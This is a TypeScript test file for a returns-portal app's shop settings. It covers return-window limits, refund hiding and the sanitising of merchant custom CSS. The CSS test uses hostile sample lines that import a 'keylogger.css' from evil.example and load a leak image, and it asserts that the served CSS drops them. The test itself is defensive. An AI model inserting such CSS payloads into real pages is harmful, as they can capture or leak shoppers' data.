import {
  calls,
  Code,
  MERCHANT_BASE,
  merchantPath,
  type Envelope,
  type FieldError,
  type ShopSettings,
} from '@return-center/contract';
import { present } from '@return-center/domain';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { buildTestApp, dialects, shop, sign, submitReturn, type TestApp } from '../../../test/helper.js';

const merchant = { authorization: 'Bearer demo-merchant-key' };

describe.each(dialects)('shop settings on %s', (dialect) => {
  let t: TestApp;
  beforeEach(async () => {
    t = await buildTestApp(dialect);
  });
  afterEach(() => t.close());

  const readSettings = async () =>
    (await t.app.inject({ method: 'GET', url: merchantPath('getSettings'), headers: merchant })).json<
      Envelope<ShopSettings>
    >().data;
  const saveSettings = async (settings: unknown) => {
    const response = await t.app.inject({
      method: 'PUT',
      url: merchantPath('putSettings'),
      headers: merchant,
      payload: settings as object,
    });
    return { status: response.statusCode, body: response.json<Envelope<{ errors: FieldError[] } | null>>() };
  };
  /** The stored settings JSON changed behind the server's back, as a row saved by an older version would be. */
  const storeRaw = async (change: (settings: Record<string, Record<string, unknown>>) => void) => {
    const row = await t.db
      .selectFrom('shops')
      .select('settings')
      .where('shop_url', '=', shop)
      .executeTakeFirstOrThrow();
    const settings = JSON.parse(row.settings) as Record<string, Record<string, unknown>>;
    change(settings);
    await t.db
      .updateTable('shops')
      .set({ settings: JSON.stringify(settings) })
      .where('shop_url', '=', shop)
      .execute();
    t.clock.advance(10_000); // past the shops cache
  };
  const returnableOf = async (order: string) => {
    const token = (await t.call(calls.login, { shop_url: shop, email: 'alice@example.com', order_number: order })).body
      .data.token;
    return present((await t.call(calls.index, {}, token)).body.data.list[0], order).returnable_count;
  };

  it('refuses a return window outside 1 to 30 days (spec §9) with a field message', async () => {
    const settings = await readSettings();
    for (const days of [60, 31, 0, -5]) {
      const refused = await saveSettings({
        ...settings,
        return_setting: { ...settings.return_setting, return_window_days: days },
      });
      expect(refused).toMatchObject({ status: 400, body: { code: Code.InvalidInput } });
      expect(refused.body.data?.errors).toEqual([
        { field: 'return_setting.return_window_days', message: 'A return window is 1 to 30 days' },
      ]);
    }
    for (const days of [1, 30]) {
      const saved = await saveSettings({
        ...settings,
        return_setting: { ...settings.return_setting, return_window_days: days },
      });
      expect(saved.status).toBe(200);
      expect((await readSettings()).return_setting.return_window_days).toBe(days);
    }
  });

  it('reads a window stored before the bound as the nearest one allowed, everywhere the shop uses it', async () => {
    // #1002 was placed 45 days ago: a 60-day window stored by an older version would still let it be returned.
    await storeRaw((settings) => (settings.return_setting = { ...settings.return_setting, return_window_days: 60 }));
    const read = await readSettings();
    expect(read.return_setting.return_window_days).toBe(30);
    expect((await t.call(calls.getConfig, { shop_url: shop, code: 'en', sign })).body.data.return_window_days).toBe(30);
    expect(await returnableOf('#1002')).toBe(0);
    expect(await returnableOf('#1001')).toBe(3);
    // What the merchant reads back can be saved as it is.
    expect((await saveSettings(read)).status).toBe(200);

    await storeRaw((settings) => (settings.return_setting = { ...settings.return_setting, return_window_days: -5 }));
    expect((await readSettings()).return_setting.return_window_days).toBe(1);
    const token = (await t.call(calls.login, { shop_url: shop, email: 'alice@example.com', order_number: '#1001' }))
      .body.data.token;
    expect((await t.call(calls.config, {}, token)).body.data.return_window_days).toBe(1);
    expect((await t.call(calls.getConfig, { shop_url: shop, code: 'en', sign })).body.data.return_window_days).toBe(1);
  });

  it('hides refund amounts from shoppers when the merchant says so', async () => {
    const { token, orderId, requestId } = await submitReturn(t);
    const shown = async () => ({
      order: (await t.call(calls.orderInfo, { order_id: orderId }, token)).body.data.hidden_refund,
      request: (await t.call(calls.returnInfo, { request_id: requestId }, token)).body.data.specious_setting
        .hidden_refund,
    });
    const settings = await readSettings();
    expect(settings.hidden_refund).toBe(2);
    expect(await shown()).toEqual({ order: 2, request: 2 });

    expect((await saveSettings({ ...settings, hidden_refund: 1 })).status).toBe(200);
    expect((await readSettings()).hidden_refund).toBe(1);
    expect(await shown()).toEqual({ order: 1, request: 1 });
    expect((await saveSettings({ ...settings, hidden_refund: 3 })).body.data?.errors[0]?.field).toBe('hidden_refund');
    // The merchant still sees the amounts.
    const detail = await t.app.inject({
      method: 'GET',
      url: `${MERCHANT_BASE}/requests/${requestId}`,
      headers: merchant,
    });
    expect(detail.json<Envelope<{ refund: number }>>().data.refund).toBeGreaterThan(0);
  });
  it('keeps the merchant’s CSS as written and cleans it when served, by the shop’s asset origins of the moment', async () => {
    const css = [
      '/* Our brand */',
      '.rc-brand {',
      '  color: #7a1f5c;',
      '  background: url(https://cdn.shop.example/stripe.png);',
      '}',
      '@import url(https://evil.example/keylogger.css);',
      '.rc-x{background:url(https://evil.example/leak.png)}',
    ].join('\n');
    const settings = await readSettings();
    expect((await saveSettings({ ...settings, custom_css: css })).status).toBe(200);
    // Stored and read back as the merchant wrote it, comments and lines included: their editor shows their text.
    expect((await readSettings()).custom_css).toBe(css);
    const served = async () => {
      const answer = (await t.call(calls.getConfig, { shop_url: shop, code: 'en', sign })).body.data.custom_css;
      // The page's first paint carries the same answer.
      expect((await t.app.ctx.services.storefront.inlineConfig(shop, 'en'))?.custom_css).toBe(answer);
      return answer;
    };
    expect(await served()).toBe('.rc-brand{color:#7a1f5c}.rc-x{}');

    // Once the shop's logo comes from that CDN, its URLs are the shop's own: the same stored CSS now serves them.
    const logo = { type: 'logo' as const, value: 'https://cdn.shop.example/logo.svg', url: '' };
    expect(
      (await saveSettings({ ...settings, custom_css: css, style: { ...settings.style, portal_top_content: logo } }))
        .status,
    ).toBe(200);
    const withCdn = await served();
    expect(withCdn).toContain('url(https://cdn.shop.example/stripe.png)');
    expect(withCdn).not.toContain('evil.example');
  });
});
